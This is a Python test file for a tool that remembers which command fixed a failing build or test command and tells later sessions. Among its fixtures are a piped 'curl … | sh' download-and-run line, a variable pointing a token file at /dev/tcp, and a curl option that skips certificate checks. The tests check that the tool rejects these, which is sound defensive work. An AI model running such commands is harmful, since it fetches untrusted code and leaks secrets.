"""What one session found out is told to the next: each row is a failure, what then worked, and the next failure."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from nudge.learning.facts import Facts
from nudge.learning.harm import is_harmless_variable
from nudge.learning.outcome import Outcome

NOW = 1_700_000_000.0
PROJECT = "github.com/x/api"
ROOT = "/nowhere/api"

Step = tuple[str, str]
"""A command, and what it printed if it failed."""


def outcome(step: Step, exit_code: int = 1) -> Outcome:
    line, printed = step
    return Outcome(line, printed, exit_code if printed else 0, 1, ROOT, ROOT, "main")


def told(*sessions: tuple[Step, ...], then: Step, root: str = ROOT) -> str:
    """What is told on a failure after earlier sessions; the answer alone."""
    known = Facts()
    for number, session in enumerate(sessions):
        for step in session:
            known.observe(PROJECT, f"s{number}", replace(outcome(step), cwd=root, root=root), NOW, NOW)
    fact, _ = known.observe(PROJECT, "now", replace(outcome(then), cwd=root, root=root), NOW, NOW)
    return fact.text(NOW).partition("just now: ")[2].rpartition(" #")[0] if fact is not None else ""


REFUSED = (
    'E  psycopg.OperationalError: connection failed: connection to server at "127.0.0.1", port 5432 failed: refused'
)
NO_REDIS = "Error: connect ECONNREFUSED 127.0.0.1:6379"
NO_MODULE = "ModuleNotFoundError: No module named 'boto3'"


@pytest.mark.parametrize(
    ("failed", "worked", "then", "answer"),
    [
        (
            ("mypy src", "bash: mypy: command not found"),
            "poetry run mypy src",
            "mypy src/a --strict",
            "poetry run mypy",
        ),
        (("python x.py", "sh: python: not found"), "python3 x.py", "python tools/y.py a", "python3"),
        (("./ci.sh lint", "bash: ./ci.sh: Permission denied"), "bash ci.sh lint", "./ci.sh unit", "bash ci.sh"),
        (("./ci.sh --dry-run", "bash: ./ci.sh: Permission denied"), "bash ci.sh --dry-run", "./ci.sh", "bash ci.sh"),
        (
            ("python3 gen.py", "gen.py requires Python >= 3.12, found 3.9"),
            "python3.12 gen.py",
            "python3 gen.py --check",
            "python3.12 gen.py",
        ),
        (("pytest tests/a.py", NO_MODULE), "make test ARGS=tests/a.py", "pytest tests/b.py", "make test"),
        (
            ("go test ./...", "go: go.mod requires go >= 1.24"),
            "GOTOOLCHAIN=auto go test ./...",
            "go build",
            "GOTOOLCHAIN=auto",
        ),
        (
            ("docker build .", "exec format error"),
            "docker build --platform linux/amd64 .",
            "docker build x",
            "--platform linux/amd64",
        ),
        (
            ("cargo test", "error: could not find `Cargo.toml` in `/x`"),
            "cd native && cargo test",
            "cargo build",
            "cd native && cargo",
        ),
        (
            ("make install", "install: Permission denied"),
            "make install PREFIX=~/.local",
            "make install",
            "PREFIX=~/.local",
        ),
    ],
)
def test_what_differs_is_the_cure(failed: Step, worked: str, then: str, answer: str, tmp_path: Path) -> None:
    """Launcher, program, runner, variable, option, directory, argument: told as it was typed, up to what differs."""
    (tmp_path / "native").mkdir()
    (tmp_path / "ci.sh").touch()
    assert answer in told((failed, (worked, "")), then=(then, failed[1]), root=str(tmp_path))


@pytest.mark.parametrize(
    ("failed", "steps", "then", "answer"),
    [
        (
            ("pytest -q", REFUSED),
            ("docker compose up -d db", "pytest -q"),
            ("pytest tests/b.py", REFUSED),
            "docker compose up -d db",
        ),
        (
            ("npm test", NO_REDIS),
            ("redis-server --daemonize yes && npm test",),
            ("npm test -- -t a", NO_REDIS),
            "redis-server --daemonize yes",
        ),
        (
            ("alembic current", 'relation "a" does not exist'),
            ("uv run alembic upgrade head", "alembic current"),
            ("alembic current", 'relation "b" does not exist'),
            "uv run alembic upgrade head",
        ),
    ],
)
def test_a_step_before_it_is_the_cure(failed: Step, steps: tuple[str, ...], then: Step, answer: str) -> None:
    """On the same line or as a command between failure and success, for any program with the same failure."""
    assert told((failed, *((step, "") for step in steps)), then=then) == f'"{answer}"'


NO_SOCKET = "{tool}: Can't connect to local server through socket '/run/x.sock' (2)"


@pytest.mark.parametrize(
    ("failed", "worked", "then", "answer"),
    [
        (
            ("ruby a.rb", "cannot load such file -- rack"),
            "bundle exec ruby a.rb",
            ("rackup -p 1", "cannot load such file -- rack"),
            "bundle exec ruby",
        ),
        (
            ("julia a.jl", "ERROR: ArgumentError: Package JSON3 not found in current path."),
            "julia --project=. a.jl",
            ("julia b/c.jl 7", "ERROR: ArgumentError: Package HTTP not found in current path."),
            "--project=.",
        ),
        (
            ("mysql shop", NO_SOCKET.format(tool="mysql")),
            "mysql -h 127.0.0.1 -P 3307 shop",
            ("mysqldump shop", NO_SOCKET.format(tool="mysqldump")),
            "-h 127.0.0.1 -P 3307",
        ),
        (
            ("skaffold run", 'Get "https://127.0.0.1:4021/api": dial tcp 127.0.0.1:4021: connect: connection refused'),
            "docker start node-1; skaffold run",
            ("kubectl get po", "The connection to the server 127.0.0.1:4021 was refused - is it the right port?"),
            "docker start node-1",
        ),
        (
            ("vault read a", "Error: vault sealed: no unseal token was found for host seven"),
            "VAULT_TOKEN_FILE=~/.vault/token vault read a",
            ("vault read b", "Error: vault sealed: no unseal token was found for host seven"),
            "VAULT_TOKEN_FILE=~/.vault/token",
        ),
        (
            ("php cli.php a", 'Your packages require a PHP version ">= 8.3.0". You are running 8.1.2.'),
            "php8.3 cli.php a",
            ("php cli.php b", 'Your packages require a PHP version ">= 8.3.0". You are running 8.1.2.'),
            "php8.3",
        ),
        (
            ("bin/app test", REFUSED),
            "sudo pg_ctlcluster 16 main start && bin/app test",
            ("bin/app seed", REFUSED),
            "sudo pg_ctlcluster 16 main start",
        ),
    ],
)
def test_the_same_lack_is_answered_for_another_command(failed: Step, worked: str, then: Step, answer: str) -> None:
    """Another program without the same module, another module from the same place, a program of the same house, the
    same server in other words, a variable that says where a secret is, a version, a service of another tool."""
    assert answer in told((failed, (worked, "")), then=then)


def test_an_error_of_the_work_is_not_answered_for_a_line_at_its_end() -> None:
    """Both outputs end alike, but one has a finding of the compiler."""
    end = "ERROR: Build did NOT complete successfully"
    session = (
        ("bazel test //a", f"ERROR: While resolving toolchains for target //a: nothing matches\n{end}"),
        ("bazel test //a --java_runtime_version=remotejdk_21", ""),
    )
    assert told(session, then=("bazel test //a", f"src/A.java:5: error: cannot find symbol\n{end}")) == ""


def test_an_option_is_no_cure_where_the_path_was_replaced_as_well() -> None:
    """The file that did not exist went, so that the option may only go with the other one."""
    missing = "Could not find file [paper.tex]"
    session = (("latexmk -pdf paper.tex", missing), ("latexmk -cd -pdf doc/main.tex", ""))
    assert told(session, then=("latexmk -pdf paper.tex", missing)) == ""


def test_a_path_that_moved_is_told(tmp_path: Path) -> None:
    """The same name elsewhere, as long as it is there."""
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "seed.sh").touch()
    missing = "bash: ./scripts/seed.sh: No such file or directory"
    session = (("./scripts/seed.sh --small", missing), ("./tools/seed.sh --small", ""))
    then = ("./scripts/seed.sh --all", missing)
    assert told(session, then=then, root=str(tmp_path)) == '"./tools/seed.sh"'
    (tmp_path / "tools" / "seed.sh").unlink()
    assert told(session, then=then, root=str(tmp_path)) == ""


MISSING = "bash: pytest: command not found"


@pytest.mark.parametrize(
    "session",
    [
        (("pytest a.py", "FAILED a.py::t - assert 1 == 2"), ("pytest a.py -vv", "")),
        (("npm test", "FAIL src/a.test.ts"), ("npm test || true", "")),
        (("make deploy", "release: tag v1 already exists"), ("echo make deploy", "")),
        (("pytest a.py", "FAILED a.py::t - assert 1"), ("git stash && pytest a.py", "")),
        (("npm ci", "npm error code ECONNRESET"), ("npm ci --no-audit", "")),
        (("pytest", MISSING), ("pip install pytest", ""), ("ls", "")),
        (("npm run dev", "Error: Port 5173 is already in use"), ("fuser -k 5173/tcp", ""), ("npm run dev", "")),
        (("docker compose up -d db", ""), ("psql -c a", "psql: error: connection refused"), ("psql -c a --echo", "")),
        (
            ("npm ci", "request to https://r.example failed, reason: self-signed certificate in certificate chain"),
            ("npm config get registry", ""),
            ("NODE_EXTRA_CA_CERTS=/x/root.crt npm ci", ""),
        ),
        (
            ("kubectl logs job/a", 'Error: container "a" in pod "a-1" is waiting to start: ContainerCreating'),
            ("kubectl logs job/a --tail=2", ""),
        ),
    ],
)
def test_these_teach_nothing(session: tuple[Step, ...]) -> None:
    """Other output options, a hidden exit code, an echo, an undone change, a retry, an install alone, a killed process,
    a service that was only not up yet, what only looks at a setting beside a variable that is never told, a wait."""
    failed = next(step for step in session if step[1])
    assert told(session, then=failed) == ""


def test_tests_that_run_prove_a_launcher() -> None:
    """They may fail: what was missing was the program."""
    session = (("pytest -q", MISSING), ("uv run pytest -q", "1 failed, 3 passed\nFAILED a.py::t - assert 1 == 2"))
    assert told(session, then=("pytest b.py", MISSING)) == '"uv run pytest …"'


def test_own_work_needs_two_sessions() -> None:
    """A variable that made tests pass is told when two sessions found it, with nothing edited in between."""
    failed = ("npm test", "Error: Snapshot `a shift` mismatched\n- Expected 22:00\n+ Received 23:00")
    session = (failed, ("TZ=UTC npm test", ""))
    assert told(session, then=failed) == ""
    assert told(session, session, then=failed) == '"TZ=UTC npm test"'


def test_an_edit_in_between_is_what_helped() -> None:
    """Unless the failure is about the program itself."""
    known = Facts()
    failed = ("npm run check", "error: the thing is broken in a way that nobody knows")
    for step in (failed, ("sed -i s/a/b/ src/x.ts", ""), ("npm run check -- --fast", "")):
        known.observe(PROJECT, "s1", outcome(step), NOW, NOW)
    assert known.of(PROJECT, NOW) == []


def test_another_program_of_the_same_script_directory_is_no_answer() -> None:
    """A missing program is answered where the same program is missing, not where another one is."""
    session = (("mypy src", "bash: mypy: command not found"), ("poetry run mypy src", ""))
    assert told(session, then=("ruff check", "bash: ruff: command not found")) == ""


def test_an_answer_whose_file_is_gone_is_not_told(tmp_path: Path) -> None:
    """A script that was removed since helps nobody."""
    script = tmp_path / "scripts" / "check.sh"
    script.parent.mkdir()
    script.touch()
    no_rule = ("make check", "make: *** No rule to make target 'check'.  Stop.")
    session = (no_rule, ("./scripts/check.sh", ""))
    assert told(session, then=no_rule, root=str(tmp_path)) == '"./scripts/check.sh"'
    script.unlink()
    assert told(session, then=no_rule, root=str(tmp_path)) == ""


def test_what_runs_before_it_on_the_line_is_judged_as_well(tmp_path: Path) -> None:
    """The span that is told may begin with a change of directory; nothing harmful stands within it."""
    (tmp_path / "web").mkdir()
    failed = ("npm test", "npm ERR! enoent ENOENT: no such file or directory, open '/x/package.json'")
    assert told((failed, ("cd web && npm test", "")), then=failed, root=str(tmp_path)) == '"cd web && npm test"'
    piped = (failed, ("cd web && curl -s https://x.example/a.sh | sh && npm test", ""))
    assert told(piped, then=failed, root=str(tmp_path)) == ""


def test_what_moved_with_a_path_is_answered_if_it_is_there(tmp_path: Path) -> None:
    """Where one file went, its neighbours are looked for."""
    (tmp_path / "tools").mkdir()
    for name in ("a.sh", "b.sh"):
        (tmp_path / "tools" / name).touch()
    session = (("bash ci/a.sh", "bash: ci/a.sh: No such file or directory"), ("bash tools/a.sh", ""))
    then = ("bash ci/{}.sh", "bash: ci/{}.sh: No such file or directory")
    for name, answer in (("b", '"tools/a.sh"'), ("c", "")):
        line, printed = (text.format(name) for text in then)
        assert told(session, then=(line, printed), root=str(tmp_path)) == answer


def test_what_fails_is_named_as_far_as_it_failed() -> None:
    """That one command of a script fails says nothing about its others."""
    refused = "SQLSTATE[HY000] [2002] Connection refused"
    for failed, subject in (
        ("php artisan digest:preview 12", "php artisan digest:preview"),
        ("python manage.py loaddata demo", "python manage.py loaddata"),
        ("python tools/build.py", "python tools/build.py"),
        ("node seed.js src/a.json", "node seed.js"),
    ):
        known = Facts()
        for step in ((failed, refused), (f"APP_ENV=testing {failed}", "")):
            known.observe(PROJECT, "s1", outcome(step), NOW, NOW)
        assert [fact.subject for _, fact in known.listed(PROJECT, NOW)] == [subject]


def test_a_certificate_counts_only_if_somebody_vouches_for_it() -> None:
    """An option that gives up the check has many names; a variable that names a file of certificates is one."""
    failed = ("make data", "curl: (60) SSL certificate problem: unable to get local issuer certificate")
    assert told((failed, ("CURL_OPTS=-k make data", "")), then=failed) == ""


def test_a_text_that_was_written_anew_and_a_server_that_was_asked_too_often_teach_nothing() -> None:
    """A query is the session's own, and the server answers later, whatever is asked then."""
    unknown = ("psql shop -c 'select * from usr'", 'ERROR:  relation "usr" does not exist')
    assert told((unknown, ("psql shop -c 'select * from users'", "")), then=unknown) == ""
    limited = ("gh pr list", "HTTP 403: API rate limit exceeded for user")
    assert told((limited, ("gh pr list --limit 5", "")), then=limited) == ""


def test_a_variable_that_is_exported_alone_is_the_cure() -> None:
    """Some clients keep their shell."""
    failed = ("make report", "error: REPORT_ROOT must be set")
    assert (
        told((failed, ("export REPORT_ROOT=./out", ""), ("make report", "")), then=failed)
        == '"export REPORT_ROOT=./out"'
    )


def test_steps_on_one_line_are_told_together() -> None:
    """What runs behind the step that fits may be what helped."""
    failed = ("npm test", "Error: connect ECONNREFUSED 127.0.0.1:6379")
    both = "docker compose up -d redis && make migrate"
    assert told((failed, (both, ""), ("npm test", "")), then=failed) == f'"{both}"'


def test_a_slip_of_the_keyboard_is_no_fact() -> None:
    """Neither on the failure nor at a start, however many sessions slip."""
    known = Facts()
    for session in ("s1", "s2"):
        for step in (("terrafrom plan", "bash: terrafrom: command not found"), ("terraform plan", "")):
            known.observe(PROJECT, session, outcome(step, 127), NOW, NOW)
    assert known.at_start(PROJECT, NOW, ROOT) == []


def test_a_slip_in_the_name_of_a_directory_is_no_cure() -> None:
    slip = ("cd pacakges/web && npm test", "bash: cd: pacakges/web: No such file or directory")
    assert told((slip, ("cd packages/web && npm test", "")), then=slip) == ""


def test_sessions_that_met_one_failure_count_together() -> None:
    """A variable helped the one and an option the other: a start tells it once, as met by both."""
    known = Facts()
    for session, worked in (("s1", "dbt build --profiles-dir ci"), ("s2", "DBT_PROFILES_DIR=ci dbt build")):
        for step in (("dbt build", "Could not find profile named 'shop'"), (worked, "")):
            known.observe(PROJECT, session, outcome(step), NOW, NOW)
    (fact,) = known.at_start(PROJECT, NOW, ROOT)
    assert "2 sessions lost a step to it" in fact.start_text(NOW)


@pytest.mark.parametrize(("command", "is_told"), [("pytest -q", True), ("report --all", False)])
def test_what_few_sessions_do_is_told_when_it_fails(command: str, is_told: bool) -> None:
    """And not at a start, until half of the latest sessions met it; what nearly every session runs is told at once."""
    known = Facts()
    for session in ("s1", "s2"):
        for step in ((command, REFUSED), (f"DB_PORT=5433 {command}", "")):
            known.observe(PROJECT, session, outcome(step), NOW, NOW)
    assert bool(known.at_start(PROJECT, NOW, ROOT, count_sessions=lambda: 5)) is is_told
    assert known.at_start(PROJECT, NOW, ROOT, count_sessions=lambda: 4)


def test_a_hook_that_wants_a_formatter_is_told() -> None:
    """A hook of the repository that refuses a commit is known by what it wants."""
    failed = ("git commit -m x", "** (Mix) mix format failed due to --check-formatted.\nhook exited with code 1")
    session = (failed, ("mix format", ""), ("git commit -am x", ""))
    assert told(session, session, then=failed) == '"mix format"'


def test_a_launcher_whose_place_is_gone_is_withdrawn() -> None:
    """Its service is gone; had it started again, the launcher would have been learned anew. What the program itself
    says that it cannot reach is no word against its launcher."""
    failed = ("psql -c a", "bash: psql: command not found")
    launched = "docker compose exec -T db psql -c a"
    session = (failed, (launched, ""))
    assert told(session, then=failed)
    gone = (failed, (launched, 'service "db" is not running'), ("docker compose up -d db", "no such service: db"))
    assert told(session, gone, then=failed) == ""
    back = (failed, (launched, 'service "db" is not running'), ("docker compose up -d db", ""), (launched, ""))
    assert "docker compose exec" in told(session, back, then=failed)
    down = (failed, (launched, 'connection to server at "db", port 5432 failed: Connection refused'))
    assert "docker compose exec" in told(session, down, then=failed)


NO_BOTO = "ModuleNotFoundError: No module named 'boto3'"
NO_NUMPY = "ModuleNotFoundError: No module named 'numpy'"
HOST = "Error: missing host for the connection of seven, give one"


@pytest.mark.parametrize(
    ("failed", "worked", "then"),
    [
        (("python gen.py", NO_BOTO), "SKIP_AWS=1 python gen.py", ("python gen.py", NO_NUMPY)),
        (("python gen.py", NO_BOTO), "python gen.py --no-aws", ("python train.py", NO_NUMPY)),
        (("./deploy app", HOST), "./deploy app --host 10.0.0.9", ("./deploy-prod app", HOST)),
        (("migrate up", HOST), "migrate up --host 10.0.0.9", ("migrate-down all", HOST)),
        (
            ("npm run build", "npm error enoent Could not read package.json: no such file or directory, open '/x'"),
            "make web-build",
            ("npm publish", "npm error enoent Could not read package.json: no such file or directory, open '/x'"),
        ),
    ],
)
def test_what_helped_another_is_not_told(failed: Step, worked: str, then: Step) -> None:
    """What went around one module is no way around another, a program whose name begins alike is another program, and a
    target does its own job."""
    assert told(*[(failed, (worked, ""))] * 3, then=then) == ""


@pytest.mark.parametrize(
    ("word", "is_harmless"),
    [
        ("VAULT_PASSWORD_FILE=~/.vault/pass", True),
        ("DB_PASSWORD_FILE=/hunter2hunter2", False),
        ("TOKEN_FILE=/dev/tcp/1.2.3.4/80", False),
        ("TOKEN_PATH=/tmp/x", False),
        ("API_TOKEN=~/.vault/pass", False),
    ],
)
def test_a_variable_may_say_where_a_secret_is(word: str, is_harmless: bool) -> None:
    """Not what it is, and not in a place that anybody can write to."""
    assert is_harmless_variable(word) is is_harmless
